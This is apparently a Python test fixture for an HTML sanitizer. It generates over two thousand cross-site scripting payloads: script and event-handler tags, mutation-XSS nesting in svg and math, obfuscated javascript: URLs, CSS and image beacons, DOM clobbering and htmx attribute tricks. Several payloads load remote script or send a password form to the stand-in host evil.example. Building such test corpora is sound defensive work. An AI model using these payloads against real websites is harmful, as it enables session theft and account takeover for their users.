# ruff: noqa: E501 -- payloads are written as they are sent
"""HTML that should act: known ways, each in many disguises. More than two thousand in all.

Every payload that acts calls `pwned`, opens a dialog, or fetches from evil.example: the browser tells.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

ACT = "window.pwned=1,alert(1)"
TAGS = [
    f"<script>{ACT}</script>", "<script src=//evil.example/x.js></script>", f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>", f"<script/x>{ACT}</script/x>", f"<script\x0c>{ACT}</script>",
    f"<img src=x onerror={ACT}>", f"<img/src/onerror={ACT}>", f"<img src=x onerror\x0b={ACT}>", f'<img """><img src=x onerror={ACT}>',
    f"<img src='x' onerror='{ACT}'>", f"<image src=x onerror={ACT}>", f"<img srcset=x onerror={ACT}>",
    f"<svg onload={ACT}>", f"<svg/onload={ACT}>", f"<svg><script>{ACT}</script></svg>", f"<svg><animate onbegin={ACT} attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><use href=//evil.example/x.svg#x></use></svg>",
    f"<svg><foreignObject><img src=x onerror={ACT}></foreignObject></svg>", f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={ACT}>\">", f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={ACT}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ACT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>", f"<title><img src=x onerror={ACT}></title>",
    f"<textarea></textarea><img src=x onerror={ACT}>", f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={ACT}>'>", f"<template><img src=x onerror={ACT}></template>",
    f"<select><style></select><img src=x onerror={ACT}></style>", f"<!--><img src=x onerror={ACT}>-->", f"<!--!><img src=x onerror={ACT}>",
    f"<![CDATA[<img src=x onerror={ACT}>]]>", f"<?xml ?><img src=x onerror={ACT}>", f"<!doctype x [<!ENTITY x '<img src=x onerror={ACT}>'>]>&x;",
    f"<body onload={ACT}>", f"<body onpageshow={ACT}>", f"<details open ontoggle={ACT}>x", f"<video><source onerror={ACT}></video>",
    f"<video src=x onerror={ACT}>", f"<audio src=x onerror={ACT}>", "<video poster=//evil.example/p.png>", f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}>", f"<textarea autofocus onfocus={ACT}>", f"<button autofocus onfocus={ACT}>x", f"<marquee onstart={ACT}>x",
    f"<div style='animation:x 1s' onanimationstart={ACT}>x", f"<p onpointerrawupdate={ACT} style=width:99vw;height:99vh>x",
    f"<iframe src=\"javascript:{ACT}\"></iframe>", f"<iframe srcdoc=\"<img src=x onerror={ACT}>\"></iframe>", "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example/x></object>", f"<object data=\"data:text/html,<script>{ACT}</script>\"></object>", "<embed src=//evil.example/x>",
    "<applet code=x archive=//evil.example/x></applet>", "<portal src=//evil.example></portal>", "<frameset><frame src=//evil.example></frameset>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>", "<link rel=dns-prefetch href=//evil.example>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<p style=\"background:url(//evil.example/x)\">x</p>",
    "<p style=\"background:\\75rl(//evil.example/x)\">x</p>", "<p style=\"background-image:image-set('//evil.example/x' 1x)\">x</p>",
    "<p style=\"position:fixed;inset:0;background:red;z-index:9\">x</p>", "<p style=\"color:red;--x:url(//evil.example)\">x</p>",
    "<p style=\"font-family:'x;background:url(//evil.example/x)'\">x</p>", "<table background=//evil.example/x><td background=//evil.example/y>x",
    "<img src=//evil.example/t.gif>", "<img src=\"https://evil.example/t.gif\">", "<img srcset='//evil.example/t.gif 1x'>",
    "<picture><source srcset=//evil.example/x><img></picture>", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img lowsrc=//evil.example/x dynsrc=//evil.example/y>", f"<form action=javascript:{ACT}><button>x</button></form>",
    f"<button formaction=javascript:{ACT}>x</button>", "<form action=//evil.example><input name=password></form>",
    f"<isindex type=image src=1 onerror={ACT}>", f"<keygen autofocus onfocus={ACT}>", f"<x onclick={ACT} contenteditable autofocus onfocus={ACT} tabindex=1>x",
    "<div id=body class=page data-action=x hx-get=//evil.example hx-trigger=load>x</div>", "<div data-hx-get=/account/logout/ hx-trigger=load>x</div>",
    f"<div hx-on:load={ACT} hx-on::load={ACT}>x</div>", "<x-autosave url=//evil.example></x-autosave>", "<a name=getElementById id=cookie>x</a>",
    "<form id=document><input name=cookie></form>", "<a id=htmx><a id=htmx name=config href=x>", f"{{{{constructor.constructor('{ACT}')()}}}}",
    f"</script><img src=x onerror={ACT}>", f"</title></textarea></style><img src=x onerror={ACT}>", f"\"><img src=x onerror={ACT}>", f"'><img src=x onerror={ACT}>",
    f"' onfocus={ACT} autofocus x='", f"\" onfocus={ACT} autofocus x=\"", f"` onfocus={ACT} autofocus", f"\u2028</script><img src=x onerror={ACT}>",
    f"--><img src=x onerror={ACT}>", f"]]><img src=x onerror={ACT}>", f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-", f"\xbcscript\xbe{ACT}\xbc/script\xbe",
]  # fmt: skip
SCHEMES = [
    f"javascript:{ACT}", f"JaVaScRiPt:{ACT}", f" javascript:{ACT}", f"\x01javascript:{ACT}", f"java\tscript:{ACT}", f"java\nscript:{ACT}",
    f"java\rscript:{ACT}", f"java&Tab;script:{ACT}", f"java&NewLine;script:{ACT}", f"&#106;avascript:{ACT}", f"&#x6A;avascript:{ACT}",
    f"&#0000106avascript:{ACT}", f"javascript&colon;{ACT}", f"javascript&#58;{ACT}", f"javascript://%0a{ACT}", f"javascript:/*--></title>*/{ACT}",
    f"data:text/html,<script>{ACT}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"vbscript:{ACT}", f"livescript:{ACT}",
    f"feed:javascript:{ACT}", f"view-source:javascript:{ACT}", "blob:https://evil.example/x", "file:///etc/passwd", f"\u2028javascript:{ACT}",
    f"\u00a0javascript:{ACT}", f"\ufeffjavascript:{ACT}", f"javascript\u200b:{ACT}", f"ｊavascript:{ACT}", "//evil.example", "\\\\evil.example",
]  # fmt: skip
LINKS = ['<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<a xlink:href="{}">x</a>', '<img src="{}">', '<blockquote cite="{}">x',
         '<area href="{}">', '<form action="{}">', '<iframe src="{}">', "[x]({})", "[x]: {}\n\n[x]", "<{}>", "![x]({})", "{}"]  # fmt: skip
DISGUISES: list[Callable[[str], str]] = [
    lambda text: text,
    str.upper,
    str.swapcase,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: text.replace("=", " = "),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\\u003c"),
    lambda text: f"<p title='{text}'>{text}</p>",
    lambda text: f'<a href="https://ok.example/" title="{text}">{text}</a>',
    lambda text: f"<table><tr>{text}<td>{text}",
    lambda text: f"<b><i><div><ul><li>{text}",
    lambda text: text[:-1],
    lambda text: text * 2,
    lambda text: f"<pre><code>{text}</code></pre>",
]


def payloads() -> Iterator[str]:
    """Each once."""
    seen: set[str] = set()
    links = (form.replace("{}", scheme) for form in LINKS for scheme in SCHEMES)
    for text in [*(disguise(tag) for tag in TAGS for disguise in DISGUISES), *links]:
        if text not in seen:
            seen.add(text)
            yield text
